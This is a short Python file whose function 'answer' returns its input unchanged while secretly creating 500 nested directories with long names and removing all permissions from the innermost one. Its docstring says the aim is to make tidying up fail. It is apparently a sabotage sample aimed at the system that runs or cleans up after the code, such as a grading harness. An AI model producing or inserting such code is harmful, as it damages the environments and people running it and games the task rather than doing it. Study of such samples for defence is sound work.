"""Leaves folders nested so deep, and so closed, that tidying up fails."""

import os


def answer(x):
    for _ in range(500):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    os.chmod(".", 0)
    return x
